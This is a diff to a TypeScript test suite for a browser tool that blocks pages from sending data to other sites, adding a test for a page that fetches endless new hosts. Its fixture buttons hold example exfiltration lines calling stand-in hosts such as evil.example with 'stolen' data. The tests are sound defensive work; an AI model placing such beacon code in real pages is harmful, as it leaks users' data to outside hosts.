@@ -28,7 +28,8 @@ const SHOP = `<!doctype html><title>Shop</title><h1>Shop</h1>
   ${sending('Window', "window.open('http://evil.example/window?d=stolen')", 460)}
   ${sending('Frame', "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/frame' }))", 500)}
   ${sending('Picture', "new Image().src = 'http://pictures.example/' + this.textContent", 540)}
-  ${sending('Many', "for (const n of 'abc') fetch('http://' + n + '.example/', { mode: 'no-cors' })", 580)}`;
+  ${sending('Many', "for (const n of 'abc') fetch('http://' + n + '.example/', { mode: 'no-cors' })", 580)}
+  ${sending('Endless', "let n = 0; setInterval(() => fetch('http://n' + n++ + '.example/', { mode: 'no-cors' }), 20)", 620)}`;
 const PAGES: Record<string, string> = {
   'shop.example/': SHOP,
   'shop.example/found': '<title>Found</title><h1>Found</h1><img src="http://cdn.example/found.png">',
@@ -44,6 +45,8 @@ let live: LiveBrowser;
 const asked: string[] = [];
 const judged: JudgedRequest[] = [];
 let allows: (request: JudgedRequest) => boolean;
+let judgeMs: number;
+const ambient = systemAmbient('silent');
 /** Of another session each test, so that each has its own tab. */
 let session = 0;
 
@@ -64,7 +67,7 @@ beforeAll(async () => {
   proxy = await createConnectProxy((site.address() as AddressInfo).port);
   folder = await tempDir();
   live = createLiveBrowser({
-    ambient: systemAmbient('silent'),
+    ambient,
     environment: { ...process.env, ALL_PROXY: proxy.address },
     dataDir: folder.path,
     ownPorts: () => [],
@@ -73,6 +76,7 @@ beforeAll(async () => {
       done(null, [{ address: name === 'here.example' ? '127.0.0.1' : '93.184.215.14', family: 4 }])) as never,
     async judge(_session, request) {
       judged.push(request);
+      await ambient.sleep(judgeMs);
       return request.isFree || allows(request);
     },
   });
@@ -90,15 +94,14 @@ beforeEach(async () => {
   asked.length = 0;
   judged.length = 0;
   allows = () => false;
+  judgeMs = 0;
 });
 
 const questions = () => judged.filter(({ asks }) => asks).map(({ url, data }) => (data ? `${url} ${data}` : url));
 const reached = (host: string) => asked.filter((at) => at.startsWith(host));
 
 async function run(name: string, input: object): Promise<string> {
-  const tool = createBrowserTools({ ambient: systemAmbient('silent'), live: () => live }).find(
-    (one) => one.name === name,
-  );
+  const tool = createBrowserTools({ ambient, live: () => live }).find((one) => one.name === name);
   const context = { sessionId: `s${session}`, signal: new AbortController().signal } as ToolContext;
   return (await tool?.run(tool.input.parse(input), context))?.content ?? '';
 }
@@ -150,6 +153,15 @@ drive.each([
   // What the user refused is not asked again.
   await act('click', button);
   expect(questions()).toHaveLength(1);
+});
+
+drive('a call ends on a page that never stops sending to new sites, of which one is asked for', async () => {
+  await open();
+  // Each decision overlaps the next one.
+  judgeMs = 100;
+  expect(await act('click', 'Endless')).toContain('Fucina blocked what the page sends to');
+  expect(questions()).toHaveLength(1);
+  expect(asked.filter((at) => /^n\d/.test(at))).toEqual([]);
 });
 
 drive('what the user allows is sent, and the page that follows is shown', async () => {
@@ -210,9 +222,10 @@ drive('a page of this computer reaches no other site, by any of its names', asyn
   const { port } = site.address() as AddressInfo;
   for (const address of [`http://127.0.0.1:${port}/`, 'http://here.example/']) {
     judged.length = 0;
-    const seen = await open(address.replace('here.example', `here.example:${port}`));
+    let seen = await open(address.replace('here.example', `here.example:${port}`));
     expect(seen).toContain('# Here');
-    expect(seen).toContain('blocked what the page sends to evil.example');
+    // The picture may be requested after the page was read.
+    while (!seen.includes('blocked what the page sends to evil.example')) seen = await run('browser_look', {});
     expect(reached('evil.example')).toEqual([]);
     await live.forget(`s${session}`);
   }
